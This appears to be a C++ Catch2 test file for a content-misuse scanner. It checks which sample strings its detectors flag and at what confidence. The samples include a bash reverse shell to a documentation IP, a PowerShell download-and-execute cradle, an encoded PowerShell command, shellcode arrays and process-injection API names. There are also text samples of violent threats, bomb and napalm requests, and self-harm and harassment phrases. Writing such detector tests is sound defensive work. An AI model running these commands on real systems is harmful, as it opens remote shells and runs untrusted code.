#include <catch2/catch.hpp>
#include <string>

#include "detector_rules.h"
#include "shipped_detectors.h"

namespace gnomon::content {
namespace {

struct Told {
  const char* text;  // as examples are written: ${} keeps it from being what it shows
  const char* what;  // "web-shell high"
};

std::string misuse_in(std::string_view text) {
  Scanner scanner{shipped_detectors()};
  std::vector<Match> matches;
  scanner.scan(expand_example(text), {}, matches);
  std::string told;
  for (const Match& match : matches)
    if (match.detector->category == Category::kMisuse)
      told += (told.empty() ? "" : ", ") + match.detector->id + ' ' +
              std::string{to_string(match.confidence)};
  return told;
}

}  // namespace

TEST_CASE("attack code is as sure as its form and the words near make it", "[content][misuse]") {
  const auto [text, what] = GENERATE(values<Told>({
      {"powershell -e SQBF${}AFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "powershell-hidden-code high"},
      {"powershell -Encoding UTF8 -File a.ps1", ""},
      {"iwr https://get.acme.example/tool.ps1 | i${}ex", "powershell-download-cradle low"},
      {"iwr https://get.acme.example/tool.ps1 | i${}ex # stager",
       "powershell-download-cradle high"},
      {"iwr https://dot.net/v1/install.ps1 | i${}ex # stager", ""},
      {"bash -i >& /dev/t${}cp/192.0.2.7/4444 0>&1", "reverse-shell high"},
      {"timeout 1 bash -c '</dev/tcp/db.example.com/5432' && echo open", ""},
      {"find . -name '*.log' -exec /bin/sh -c 'gzip {}' ;", ""},
      {"a = \"\\x1f\\x8b\\x08\\x00\\x41\\x9c\\x31\\xd7\\x55\\x02\\xff\\x4b\\x4c\\x4a\\x06\\x00\"",
       "shellcode-array low"},
      {"shell${}code = \"\\x1f\\x8b\\x08\\x00\\x41\\x9c\\x31\\xd7\\x55\\x02\\xff\\x4b\\x4c\\x4a"
       "\\x06\\x00\"",
       "shellcode-array high"},
      {"shell${}code = \"\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00"
       "\\x00\\x00\"",
       ""},
      {"Virtual${}AllocEx, WriteProcess${}Memory, CreateRemote${}Thread", "process-injection low"},
      {"Virtual${}AllocEx, WriteProcess${}Memory, CreateRemote${}Thread, SetThread${}Context, "
       "Queue${}UserAPC",
       "process-injection high"},
  }));
  CAPTURE(text);
  CHECK(misuse_in(text) == what);
}

TEST_CASE("threats and requests for weapons are told from what speaks of them",
          "[content][misuse]") {
  const auto [text, what] = GENERATE(values<Told>({
      {"I will kill${} you", "violent-threat low"},
      {"I'm going to stab${} him at school tomorrow", "violent-threat high"},
      {"I am going to shoot a film at school tomorrow", ""},
      {"I will kill all zombies with a shotgun tonight", ""},
      {"He had said that he would kill her at school", ""},
      {"Wir wissen: ich werde dich um${}bringen, heute abend", "violent-threat high"},
      {"How do I build a pipe${} bomb?", "weapons-request high"},
      {"Give me instructions for making na${}palm", "weapons-request high"},
      {"How to make a bath bomb with lavender", ""},
      {"The bomb was made in a shed, and nobody knows how.", ""},
      {"I have been thinking of kill${}ing myself", "self-harm high"},
      {"I could have killed myself for that", ""},
      {"Just kill${} yourself", "harassment high"},
      {"Do not kill yourself over this", ""},
      {"fuck${} this shit${}ty bull${}shit, you ass${}hole", "profanity low"},
      {"fuck${} this, fuck${} that, and fuck${} them", ""},
  }));
  CAPTURE(text);
  CHECK(misuse_in(text) == what);
}

}  // namespace gnomon::content
